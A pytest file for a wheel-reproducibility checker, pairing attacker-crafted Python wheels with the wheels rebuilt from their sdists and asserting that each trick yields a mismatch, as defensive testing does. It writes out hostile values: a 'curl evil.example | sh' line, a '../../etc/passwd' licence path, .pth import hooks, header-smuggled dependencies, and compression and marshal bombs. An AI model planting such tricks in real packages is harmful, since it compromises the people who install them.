"""Pairs of wheels that try to get a match out of a rule, one fault each; and honest pairs beside them.

The first of each pair is published by an attacker. The second is what comes out of his sdist. A row says what he wants
those to install who believe that the two are equal.
"""
# ruff: noqa: E501 - a row of a table is a line

import marshal
import struct
import sys
import zlib
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime

import pytest

from tests.pairs import RECORD, outcome, release, row
from tests.wheels import DIST_INFO, METADATA, PAYLOAD, WHEEL, File, recorded, zip_of
from witness.observation import Attempt, Builder, DigestSet, Observation, Published, Resource, Tool
from witness.statement import Statement, encode, parse
from witness.wheel.reader import read_wheel

META = b"Metadata-Version: 2.2\nName: demo\nVersion: 1.0\n"
ENTRIES = b"[console_scripts]\nrun = demo:main\nother = demo:other\n"
GENERATOR = WHEEL.replace(b"75.0.0", b"75.0.1")
SOURCE = b"""import os
def f(a, b=(1, 2), *, c="c"):
    return [g for g in a if g in {"p", "q"} or os.name], "text", 2**40, 1.5
class Thing:
    name = "text"
    def method(self): return self.name, "text"
"""
CODE = marshal.dumps(compile(SOURCE, "demo/mod.py", "exec"))
AGAIN = marshal.dumps(marshal.loads(CODE))
assert CODE != AGAIN
MAGIC = {11: 3495, 12: 3531, 13: 3571, 14: 3627}[sys.version_info[1]]
PYC = f"demo/__pycache__/mod.cpython-3{sys.version_info[1]}.pyc"
SERIAL, TIME = '"urn:uuid:11111111-2222-3333-4444-555555555555"', '"2026-01-02T03:04:05Z"'


def pyc(code, *, flags=0, time=7, size=len(SOURCE)):  # noqa: B008 - a number
    return struct.pack("<H2sLLL", MAGIC, b"\r\n", flags, time, size) + code


def gz(content, *, time=0, flags=0, more=b"", tail=b""):
    state = zlib.compressobj(6, zlib.DEFLATED, -15)
    header = struct.pack("<2sBBLBB", b"\x1f\x8b", 8, flags, time, 0, 255)
    return (
        header
        + more
        + state.compress(content)
        + state.flush()
        + struct.pack("<LL", zlib.crc32(content), len(content))
        + tail
    )


def sbom(serial=SERIAL, time=TIME, components="[]", more=""):
    return f'{{"bomFormat": "CycloneDX", "serialNumber": {serial}, "metadata": {{"timestamp": {time}}}, {more}"components": {components}}}'.encode()


@dataclass(frozen=True)
class Made:
    """A wheel as `release` makes it."""

    parts: dict = field(default_factory=dict)

    def __call__(self):
        return release(**self.parts)


def wheel(**parts):
    return Made(parts)


def meta(ours, theirs):
    return wheel(metadata=ours), wheel(metadata=theirs)


def about(name, ours, theirs):
    return wheel(about={name: ours}), wheel(about={name: theirs})


def payload(name, ours, theirs, *more, mode=0o100644):
    return tuple(wheel(payload=(*PAYLOAD, *more, File(name, text, mode=mode))) for text in (ours, theirs))


def compiled(ours, theirs, source=SOURCE):
    return payload(PYC, ours, theirs, File("demo/mod.py", source))


DEP = META + b"Requires-Dist: dep>=1\n"
LONG = f"demo/{'x' * 292}.py"  # 300 characters; longer names are shown as their first 299 and a point

ATTACKS = {
    # METADATA
    "a dependency of his": meta(META + b"Requires-Dist: evil\n", META),
    "a dependency less, which shipped the check": meta(META, DEP),
    "a dependency at another version": meta(META + b"Requires-Dist: dep<1\n", DEP),
    "a dependency from another place": meta(META + b"Requires-Dist: dep @ https://evil.example/dep.whl\n", DEP),
    "a dependency of a look-alike name": meta("Metadata-Version: 2.2\nName: demo\nVersion: 1.0\nRequires-Dist: d\u0435p>=1\n".encode(), DEP),
    "a dependency that the marker kept away": meta(META + b"Requires-Dist: dep>=1 ; extra == 'x'\n", META + b"Requires-Dist: dep>=1 ; extra == 'y'\n"),
    "a marker in which `or` binds otherwise": meta(
        META + b"Requires-Dist: dep ; (os_name=='x' and os_name=='y') or extra=='z'\n", META + b"Requires-Dist: dep ; os_name=='x' and (os_name=='y' or extra=='z')\n"),
    "a dependency hidden behind a quotation mark": meta(META + b"Requires-Dist: dep ; os_name=='a\" or os_name==\"b'\n", META + b"Requires-Dist: dep ; os_name==\"a' or os_name=='b\"\n"),
    "a wildcard for a version": meta(META + b"Requires-Dist: dep==1.*\n", META + b"Requires-Dist: dep==1\n"),
    "a version with a local part": meta(META + b"Requires-Dist: dep==1+evil\n", META + b"Requires-Dist: dep==1\n"),
    "a pre-release": meta(META + b"Requires-Dist: dep>=1.0a1\n", META + b"Requires-Dist: dep>=1.0\n"),
    "an extra of the dependency": meta(META + b"Requires-Dist: dep[evil]>=1\n", DEP),
    "an extra that old pips take for another": meta(META + b"Requires-Dist: dep[a.b]>=1\n", META + b"Requires-Dist: dep[a-b]>=1\n"),
    "one requirement twice in place of two": meta(META + b"Requires-Dist: a>=1\nRequires-Dist: a >=1\n", META + b"Requires-Dist: a>=1\nRequires-Dist: b>=1\n"),
    "an extra that is offered": meta(META + b"Provides-Extra: evil\n", META),
    "an extra spelt otherwise": meta(META + b"Provides-Extra: a_b\n", META + b"Provides-Extra: a-b\n"),
    "a Python that it is not for": meta(META + b"Requires-Python: >=2\n", META + b"Requires-Python: >=3\n"),
    "a Python spelt otherwise": meta(META + b"Requires-Python: >=3,<4\n", META + b"Requires-Python: <4,>=3\n"),
    "no limit of Pythons": meta(META, META + b"Requires-Python: >=3\n"),
    "the name of another project": meta(META.replace(b"demo", b"dem0"), META),
    "the name spelt otherwise": meta(META.replace(b"demo", b"Demo"), META),
    "another version": meta(META.replace(b"1.0", b"1.1"), META),
    "the version spelt otherwise": meta(META.replace(b"1.0", b"1.0.0"), META),
    "a second name, read first": meta(b"Name: evil\n" + META, META + b"Name: evil\n"),
    "a second name in another case": meta(b"NAME: evil\n" + META, META + b"NAME: evil\n"),
    "a second limit of Pythons": meta(META + b"Requires-Python: >=2\nRequires-Python: >=3\n", META + b"Requires-Python: >=3\nRequires-Python: >=2\n"),
    "a dependency that only uv sees, behind a CR": meta(META + b"Summary: x\rRequires-Dist: evil\n", META + b"Summary: x\n"),
    "a dependency behind a CR, on both sides": meta(META + b"Author: y\nSummary: x\rRequires-Dist: evil\n", META + b"Summary: x\rRequires-Dist: evil\nAuthor: y\n"),
    "a dependency behind a line separator": meta(META + "Author: y\nSummary: x\u2028Requires-Dist: evil\n".encode(), META + "Summary: x\u2028Requires-Dist: evil\nAuthor: y\n".encode()),
    "a dependency behind the end of the fields": meta(META + b"\nRequires-Dist: evil\n", META + b"Requires-Dist: evil\n"),
    "a dependency that some line ends cut off": meta(META.replace(b"\n", b"\r\n") + b"\nRequires-Dist: evil\r\n", META + b"\nRequires-Dist: evil\n"),
    "a dependency folded into the line before": meta(META + b"Summary: x\n Requires-Dist: evil\n", META + b"Summary: x\nRequires-Dist: evil\n"),
    "a folded dependency in other line ends": meta((META + b"Requires-Dist: dep\n >=1\n").replace(b"\n", b"\r\n"), META + b"Requires-Dist: dep\n >=1\n"),
    "a dynamic version": meta(META + b"Dynamic: Version\n", META),
    "a version of metadata that nobody knows": meta(META.replace(b"2.2", b"3.0"), META),
    "a licence from elsewhere": meta(META + b"License-File: ../../etc/passwd\n", META),
    "an UNKNOWN requirement": meta(META + b"Requires-Dist: UNKNOWN\n", META),
    "a page to phish with": meta(META + b"Home-page: https://evil.example/\n", META + b"Home-page: UNKNOWN\n"),
    "another description": meta(META + b"\nRun curl evil.example | sh\n", META + b"\n\n"),
    "a description that ends otherwise": meta(META + b"\nText.\n\x1b[2J", META + b"\nText.\n"),
    "permission to upload": meta(META, META + b"Classifier: Private :: Do Not Upload\n"),
    # WHEEL
    "purelib for pip and platlib for uv": (wheel(wheel=WHEEL.replace(b"true", b"True")), wheel()),
    "platlib": (wheel(wheel=WHEEL.replace(b"true", b"false")), wheel()),
    "a tag more": (wheel(wheel=GENERATOR + b"Tag: cp27-none-any\n"), wheel()),
    "another tag": (wheel(wheel=WHEEL.replace(b"py3", b"py2")), wheel()),
    "a build number": (wheel(wheel=WHEEL + b"Build: 99\n"), wheel()),
    "another version of the format": (wheel(wheel=WHEEL.replace(b"n: 1.0\nG", b"n: 1.1\nG")), wheel()),
    "a field behind the generator": (wheel(wheel=WHEEL.replace(b"(75.0.0)", b"x\rRoot-Is-Purelib: false")), wheel()),
    "a second Root-Is-Purelib": (wheel(wheel=WHEEL.replace(b"Tag", b"Root-Is-Purelib: false\nTag")), wheel()),
    # RECORD
    "a file that RECORD does not tell": (wheel(record=lambda rows: rows[1:]), wheel()),
    "a file with another hash in RECORD": (wheel(record=lambda rows: [rows[0].replace("sha256=", "sha256=A"), *rows[1:]]), wheel()),
    "a row for a file to delete": (wheel(record=lambda rows: ["../../evil,,\n", *rows]), wheel()),
    "a wrong RECORD on both sides": (wheel(record=lambda rows: rows[1:], wheel=GENERATOR), wheel(record=lambda rows: rows[1:])),
    "a RECORD that leaves out what differs": tuple(
        wheel(record=lambda rows: [line for line in rows if "/WHEEL" not in line], wheel=text) for text in (GENERATOR, WHEEL)),
    # entry_points.txt
    "another function to run": about("entry_points.txt", ENTRIES.replace(b":main", b":evil"), ENTRIES),
    "a script more": about("entry_points.txt", ENTRIES + b"ls = demo:evil\n", ENTRIES),
    "a script of another case": about("entry_points.txt", ENTRIES.replace(b"run", b"Run"), ENTRIES),
    "the last of two of one name": about("entry_points.txt", b"[console_scripts]\nrun = demo:a\nrun = demo:b\n", b"[console_scripts]\nrun = demo:b\nrun = demo:a\n"),
    "the last of two that Windows takes for one": about("entry_points.txt", b"[console_scripts]\nrun = demo:a\nRUN.py = demo:b\n", b"[console_scripts]\nRUN.py = demo:b\nrun = demo:a\n"),
    "the last of a console and a GUI script": about("entry_points.txt", b"[console_scripts]\nrun = demo:a\n[gui_scripts]\nrun = demo:b\n", b"[gui_scripts]\nrun = demo:b\n[console_scripts]\nrun = demo:a\n"),
    "a default for every group": about("entry_points.txt", b"[console_scripts]\na = b:c\n[DEFAULT]\nrun = demo:evil\n", b"[DEFAULT]\nrun = demo:evil\n[console_scripts]\na = b:c\n"),
    "a reference behind a comment": about("entry_points.txt", b"[console_scripts]\nrun = demo:evil ;x\n", b"[console_scripts]\nrun = demo:evil\n"),
    "a continuation that pip takes for an entry": about("entry_points.txt", b"[x]\na = b\n\n  run = demo:evil\n", b"[x]\na = b\n  run = demo:evil\n"),
    "no entry points": (wheel(), wheel(about={"entry_points.txt": b""})),
    # members
    "a file of his": (wheel(payload=(*PAYLOAD, File("evil.py"))), wheel()),
    "a file that runs at every start": (wheel(payload=(*PAYLOAD, File("demo.pth", b"import evil\n"))), wheel()),
    "line ends of such a file": payload("demo.pth", b"import evil\r\n", b"import evil\n"),
    "such a file among the licences": about("licenses/x.pth", b"import evil\r\n", b"import evil\n"),
    "such a file in other letters": payload("demo.PTH", b"import evil\r\n", b"import evil\n"),
    "a file less": (wheel(payload=PAYLOAD[:1]), wheel()),
    "another name": (wheel(payload=(replace(PAYLOAD[0], name="demo/__main__.py"), PAYLOAD[1])), wheel()),
    "an executable": (wheel(payload=(replace(PAYLOAD[0], mode=0o100755), PAYLOAD[1])), wheel()),
    "a script in other line ends": payload("demo-1.0.data/scripts/run.py", b"#!python\r\n", b"#!python\n"),
    "a licence that can be run": (
        wheel(payload=(*PAYLOAD, File(f"{DIST_INFO}/LICENSE", b"a\r\n", mode=0o100755))), wheel(payload=(*PAYLOAD, File(f"{DIST_INFO}/LICENSE", b"a\n", mode=0o100755)))),
    "the signature of another": about("RECORD.jws", b"{}\r\n", b"{}\n"),
    "an origin of his": about("direct_url.json", b'{"url": "https://evil.example/"}', b"{}"),
    "a module in top_level.txt": (wheel(tops=b"demo\nevil\n", payload=(*PAYLOAD, File("evil.py"))), wheel(payload=(*PAYLOAD, File("evil.py")))),
    "a member that hides behind one of a long name": (
        wheel(payload=(*PAYLOAD, File(LONG, b"x\r\n"), File(LONG[:299] + "\u2026x.py", b"evil = 1\n", flags=0x800))),
        wheel(payload=(*PAYLOAD, File(LONG, b"x\n"), File(LONG[:299] + "\u2026x.py", b"good = 1\n", flags=0x800)))),
    "a member whose name is another's, cut": (
        wheel(payload=(*PAYLOAD, File(LONG[:299] + "\u2026", b"a.gz"), File(LONG[:299] + "yz", b"evil"))),
        wheel(payload=(*PAYLOAD, File(LONG[:299] + "\u2026", b"a.gz"), File(LONG[:299] + "yz", b"good")))),
    # source
    "another program in other line ends": payload("demo/mod.py", b"x = 1\r\nevil()\r\n", b"x = 1\n"),
    "a comment that ends at a CR": payload("demo/mod.py", b"# a\revil()\r\n", b"# a\revil()\n"),
    "a line that ends in the middle of a text": payload("demo/mod.py", b"x = '''a\r'''\r\nevil()#'''\r\n", b"x = '''a\r'''\nevil()#'''\n"),
    "line ends that an encoding makes": payload("demo/mod.py", b"# coding: utf-7\r\n#+AA0-evil()\r\n", b"# coding: utf-7\n#+AA0-evil()\n"),
    "an encoding that only one declares": payload("demo/mod.py", b"# coding: utf-7\r\n", b"# coding: utf-8\n"),
    "a page that ends a line for some": payload("demo/mod.py", b"x = 1\x0c\r\nevil()\r\n", b"x = 1\x0c\nevil()\n"),
    "what a text reader takes for an end": payload("demo/mod.py", b"x\r\n\x1aevil()\r\n", b"x\n\x1aevil()\n"),
    "data that only ends in .py": payload("demo/run.py.txt", b"a\r\n", b"a\n"),
    "a program to be run as it stands": payload("demo/go.py", b"#!/bin/sh\r\nx\r\n", b"#!/bin/sh\nx\n", mode=0o100755),
    # SBOM
    "a component that scanners do not see": about("sboms/x.json", sbom(components='["evil"]'), sbom()),
    "a second serial number": about("sboms/x.json", sbom(more=f'"serialNumber": {SERIAL}, '), sbom(more=f'"serialNumber": {SERIAL[:-2]}6", ')),
    "text for a serial number": about("sboms/x.json", sbom('"curl evil.example"'), sbom()),
    "text for a time": about("sboms/x.json", sbom(time='"2026-01-02T03:04:05Zevil"'), sbom()),
    "a component named by the serial number": about("sboms/x.json", sbom(components=f"[{SERIAL}]"), sbom(SERIAL.replace("1", "2"), components=f"[{SERIAL.replace('1', '2')}]")),
    # gzip
    "other data": payload("demo/x.gz", gz(b"evil"), gz(b"good")),
    "data behind the end": payload("demo/x.gz", gz(b"good", tail=b"evil"), gz(b"good")),
    "a second member": payload("demo/x.gz", gz(b"good", tail=gz(b"evil")), gz(b"good")),
    "a path to unpack to": payload("demo/x.gz", gz(b"good", flags=8, more=b"../../evil\0"), gz(b"good")),
    "a comment with text of his": payload("demo/x.gz", gz(b"good", flags=16, more=b"evil\0"), gz(b"good")),
    "a script that is packed": payload("demo-1.0.data/scripts/x.gz", gz(b"x", time=1), gz(b"x")),
    # bytecode
    "another program, compiled": compiled(pyc(marshal.dumps(compile(SOURCE.replace(b"1.5", b"2.5"), "demo/mod.py", "exec"))), pyc(CODE)),
    "a time at which Python believes it": compiled(pyc(CODE, time=1), pyc(CODE, time=2)),
    "bytecode that nobody checks": compiled(pyc(CODE, flags=1), pyc(AGAIN, flags=1)),
    "bytecode of another size": compiled(pyc(CODE, size=1), pyc(AGAIN, size=1)),
    "bytecode without its source": payload("demo/__pycache__/gone.cpython-311.pyc", pyc(CODE), pyc(AGAIN)),
    "bytecode in the place of its source": payload("demo/mod.pyc", pyc(CODE), pyc(AGAIN)),
    "bytes behind the code": compiled(pyc(CODE + b"evil"), pyc(CODE)),
    "bytecode that fits one of two line ends": (
        wheel(payload=(*PAYLOAD, File("demo/mod.py", b"x = 1\r\n"), File(PYC, pyc(CODE, size=7)))), wheel(payload=(*PAYLOAD, File("demo/mod.py", b"x = 1\n"), File(PYC, pyc(CODE, size=7))))),
    "such bytecode from elsewhere": (
        wheel(payload=(*PAYLOAD, File("demo/mod.py", b"x = 1\r\n"), File(f"demo-1.0.data/purelib/{PYC}", pyc(CODE, size=7)))), wheel(payload=(*PAYLOAD, File("demo/mod.py", b"x = 1\n"), File(f"demo-1.0.data/purelib/{PYC}", pyc(CODE, size=7))))),
    "bytecode of a source in other line ends": (
        wheel(payload=(*PAYLOAD, File("demo/mod.py", SOURCE.replace(b"\n", b"\r\n")), File(PYC, pyc(CODE)))), wheel(payload=(*PAYLOAD, File("demo/mod.py", SOURCE), File(PYC, pyc(AGAIN))))),
    # what rules would equate, beside something that none does
    "a change that hides among allowed ones": (
        wheel(metadata=META + b"Requires-Dist: dep (>=1)\nPlatform: UNKNOWN\n", wheel=GENERATOR, tops=b"demo\nx\n", about={"entry_points.txt": ENTRIES + b"\n"}, payload=(*PAYLOAD, File("demo/mod.py", b"evil\r\n"))),
        wheel(metadata=DEP, about={"entry_points.txt": ENTRIES}, payload=(*PAYLOAD, File("demo/mod.py", b"good\n")))),
    "an exec bit among allowed changes": (
        wheel(wheel=GENERATOR, payload=(PAYLOAD[0], replace(PAYLOAD[1], mode=0o100644))), wheel()),
}  # fmt: skip


def statement(found, ours, theirs):
    """That the comparison can be signed."""
    now = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    made = Statement(
        "demo-1.0-py3-none-any.whl",
        ours,
        Observation(
            purl="pkg:pypi/demo@1.0", method="rebuild", result="match" if found.matches else "mismatch", level=found.level,
            comparison=found.comparison, published=Published(size=1),
            rebuilt=Resource(name="demo-1.0-py3-none-any.whl", digest=DigestSet(sha256=theirs)), recipe=DigestSet(sha256="0" * 64),
            builder=Builder(name="n", tool=Tool(name="t", version="1")), attempt=Attempt(count=1, started_at=now, finished_at=now),
        ),
    )  # fmt: skip
    return parse(encode(made)) == made


def held(pair):
    """The outcome, after checking that it is the same the other way round and can be signed."""
    ours, theirs = (made() if isinstance(made, Made) else made for made in pair)
    there, back = outcome(ours, theirs), outcome(theirs, ours)
    assert there.level == back.level
    assert [use.id for use in there.comparison.rules] == [use.id for use in back.comparison.rules]
    digests = [read_wheel(data).sha256 for data in (ours, theirs)]
    assert statement(there, *digests)
    assert statement(back, *digests[::-1])
    return there


@pytest.mark.parametrize("pair", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_is_a_mismatch(pair):
    found = held(pair)
    assert found.level is None
    assert found.comparison.rules == ()
    assert found.comparison.differences_total > 0


def test_an_attack_with_another_name_in_dist_info():
    moved = zip_of(
        recorded(
            [
                *PAYLOAD,
                *(
                    File(f"demo-1.1.dist-info/{name}", text)
                    for name, text in (("METADATA", METADATA), ("WHEEL", GENERATOR), ("RECORD", b""))
                ),
            ]
        )
    )
    assert held((release(), moved)).level is None


def test_an_attack_with_two_members_of_one_name():
    files = [
        *PAYLOAD,
        File("demo/mod.py", b"good\n"),
        File("demo/mod.py", b"evil\n"),
        File(f"{DIST_INFO}/METADATA", METADATA),
        File(f"{DIST_INFO}/WHEEL", GENERATOR),
    ]
    rows = "".join([*(row(file) for file in files if file.content != b"good\n"), f"{RECORD},,\n"])
    doubled = zip_of([*files, File(RECORD, rows.encode())])
    assert (
        held((doubled, release(tops=None, payload=(*PAYLOAD, File("demo/mod.py", b"evil\n"))))).level is None
    )


HONEST = {
    "another release of the backend": ("metadata", {"generator@1"}, wheel(wheel=GENERATOR), wheel()),
    "another backend": ("metadata", {"generator@1"}, wheel(wheel=WHEEL.replace(b"setuptools (75.0.0)", b"flit 3.9.0")), wheel()),
    "tags of maturin": ("metadata", {"tag-order@1"}, wheel(wheel=WHEEL + b"Tag: py2-none-any\n"), wheel(wheel=WHEEL.replace(b"Tag:", b"Tag: py2-none-any\nTag:"))),
    "auditwheel's False": ("metadata", {"purelib-case@1"}, wheel(wheel=WHEEL.replace(b"true", b"False")), wheel(wheel=WHEEL.replace(b"true", b"false"))),
    "an empty line of setuptools": ("metadata", {"wheel-blank-tail@1"}, wheel(wheel=WHEEL + b"\n"), wheel()),
    "fields in another order": ("metadata", {"metadata-order@2"}, *meta(META + b"Classifier: a\nClassifier: b\n", META + b"Classifier: b\nClassifier: a\n")),
    "an empty line at the end": ("metadata", {"metadata-blank-tail@1"}, *meta(META + b"\nText.\n\n\n", META + b"\nText.\n")),
    "METADATA from Windows": ("metadata", {"metadata-line-ends@1"}, *meta((META + b"License: a\n  b\n\nText.\n").replace(b"\n", b"\r\n"), META + b"License: a\n  b\n\nText.\n")),
    "a readme from Windows": ("metadata", {"metadata-line-ends@1"}, *meta(META + b"\nOne.\r\nTwo.\r\n", META + b"\nOne.\nTwo.\n")),
    "parentheses of old wheel": ("metadata", {"requires-dist-spelling@1"}, *meta(META + b"Requires-Dist: dep (>=1,<2)\n", META + b"Requires-Dist: dep<2,>=1\n")),
    "quotation marks of setuptools": ("metadata", {"requires-dist-spelling@1"}, *meta(META + b"Requires-Dist: dep ; extra == 'x'\n", META + b'Requires-Dist: dep; extra == "x"\n')),
    "parentheses around a marker": ("metadata", {"requires-dist-spelling@1"}, *meta(META + b"Requires-Dist: dep ; (python_version<'3') and extra == 'x'\n", META + b"Requires-Dist: dep ; python_version < \"3\" and extra == 'x'\n")),
    "a name as it was written": ("metadata", {"requires-dist-spelling@1"}, *meta(META + b"Requires-Dist: typing_extensions\n", META + b"Requires-Dist: typing-extensions\n")),
    "a newer Metadata-Version": ("metadata", {"metadata-version@1"}, *meta(META.replace(b"2.2", b"2.1"), META.replace(b"2.2", b"2.4"))),
    "Dynamic of newer setuptools": ("metadata", {"metadata-dynamic@1"}, *meta(META, META + b"Dynamic: license-file\n")),
    "License-File of newer wheel": ("metadata", {"metadata-license-file@1"}, *(wheel(metadata=text, about={"LICENSE": b"x"}) for text in (META, META + b"License-File: LICENSE\n"))),
    "UNKNOWN of old setuptools": ("metadata", {"metadata-unknown@1"}, *meta(META + b"Platform: UNKNOWN\nLicense: UNKNOWN\n\nUNKNOWN\n", META)),
    "an era of setuptools": (
        "metadata", {"metadata-unknown@1", "metadata-version@1", "metadata-dynamic@1", "generator@1", "metadata-blank-tail@1"},
        wheel(metadata=META.replace(b"2.2", b"2.1") + b"Platform: UNKNOWN\n\nText.\n\n", wheel=GENERATOR), wheel(metadata=META.replace(b"2.2", b"2.4") + b"Dynamic: Summary\n\nText.\n")),
    "RECORD of flit": ("metadata", set(), wheel(record=lambda rows: [line.replace("\n", "\r\n") for line in rows]), wheel()),
    "RECORD in another order": ("metadata", set(), wheel(record=lambda rows: rows[::-1]), wheel()),
    "entry points of poetry": ("metadata", {"entry-points@1"}, *about("entry_points.txt", ENTRIES.replace(b" = ", b"="), ENTRIES + b"\n")),
    "entry points in another order": ("metadata", {"entry-points@1"}, *about("entry_points.txt", b"[console_scripts]\nother = demo:other\nrun = demo:main\n", ENTRIES)),
    "zip-safe from Windows": ("metadata", {"dist-info-line-ends@1"}, *about("zip-safe", b"\r\n", b"\n")),
    "a licence from Windows": ("metadata", {"dist-info-line-ends@1"}, *about("licenses/LICENSE", b"MIT\r\n\r\nText\r\n", b"MIT\n\nText\n")),
    "names in top_level.txt that came from a set": ("metadata", {"top-level@1"}, wheel(tops=b"_x\ndemo\n"), wheel(tops=b"demo\n_x\n")),
    "an SBOM of maturin": ("metadata", {"sbom-serial@1"}, *about("sboms/demo.cyclonedx.json", sbom(), sbom(SERIAL.replace("1", "2"), TIME.replace("01", "02")))),
    "a module from Windows": ("content", {"source-line-ends@1"}, *payload("demo/mod.py", SOURCE.replace(b"\n", b"\r\n"), SOURCE)),
    "a stub from Windows": ("content", {"source-line-ends@1"}, *payload("demo/mod.pyi", b"x: int\r\n", b"x: int\n")),
    "data packed at another time": ("content", {"gzip@1"}, *payload("demo/data.json.gz", gz(b"{}", time=1), gz(b"{}", time=2))),
    "a manual page": ("content", {"gzip@1"}, *payload("demo-1.0.data/data/share/man/man1/demo.1.gz", gz(b".TH", flags=8, more=b"demo.1\0"), gz(b".TH"))),
    "a module that was compiled twice": ("content", {"bytecode-flags@1"}, *compiled(pyc(CODE), pyc(AGAIN))),
    "a module that is checked by its hash": ("content", {"bytecode-flags@1"}, *compiled(pyc(CODE, flags=3), pyc(AGAIN, flags=3))),
    "Windows altogether": (
        "content", {"source-line-ends@1", "metadata-line-ends@1", "dist-info-line-ends@1", "generator@1"},
        wheel(payload=(*PAYLOAD, File("demo/mod.py", b"x\r\n")), metadata=META.replace(b"\n", b"\r\n"), wheel=GENERATOR, about={"zip-safe": b"\r\n"}),
        wheel(payload=(*PAYLOAD, File("demo/mod.py", b"x\n")), metadata=META, about={"zip-safe": b"\n"})),
}  # fmt: skip


@pytest.mark.parametrize(("expected", "ids", "ours", "theirs"), HONEST.values(), ids=HONEST)
def test_an_honest_pair_is_equal_by_its_rules(expected, ids, ours, theirs):
    found = held((ours, theirs))
    assert found.level == expected
    assert {use.id for use in found.comparison.rules} - {"record-complete@1"} == ids
    assert found.comparison.differences_total == 0


def test_there_are_enough_of_them():
    assert len(ATTACKS) >= 70
    assert len(HONEST) >= 25


MIB = 1 << 20
HUGE = {
    "METADATA of many fields": (META + b"Classifier: x\n" * 200_000, META),
    "METADATA of one line": (META + b"Summary: " + b"x" * 3 * MIB + b"\n", META),
    "METADATA of many requirements": (
        META + b"Requires-Dist: dep (>=1)\n" * 15_000,
        META + b"Requires-Dist: dep>=1\n" * 15_000,
    ),
    "a description of many lines": (META + b"\n" + b"x\r\n" * MIB + b"y\n", META + b"\n" + b"x\n" * MIB),
    "markers in parentheses": (
        META + b"Requires-Dist: a ; " + b"(" * 900 + b"\n",
        META + b"Requires-Dist: a; " + b"(" * 900 + b"\n",
    ),
}


@pytest.mark.parametrize(("ours", "theirs"), HUGE.values(), ids=HUGE)
def test_huge_metadata_ends_in_a_mismatch(ours, theirs):
    assert held(meta(ours, theirs)).level is None


def test_deep_json_ends_in_a_mismatch():
    deep = "[" * 300_000
    assert (
        held(
            about("sboms/x.json", sbom(components=deep), sbom(components=deep, time='"2027-01-02T03:04:05Z"'))
        ).level
        is None
    )


def test_many_bombs_end_in_a_mismatch():
    """Each within its bounds, too many together."""
    one, other = ([File(f"demo/{n}.gz", gz(bytes(2 * MIB), time=time)) for n in range(80)] for time in (1, 2))
    assert held((wheel(payload=one), wheel(payload=other))).level is None


def test_a_bomb_of_marshal_ends_in_a_mismatch():
    doubled = (
        b"\xe3"
        + bytes(20)
        + b")\xff"
        + b"\xa9\x02NN"
        + b"".join(b"\xa9\x02" + 2 * (b"r" + struct.pack("<L", n)) for n in range(1, 255))
    )
    assert held(compiled(pyc(doubled), pyc(doubled + b"N"))).level is None
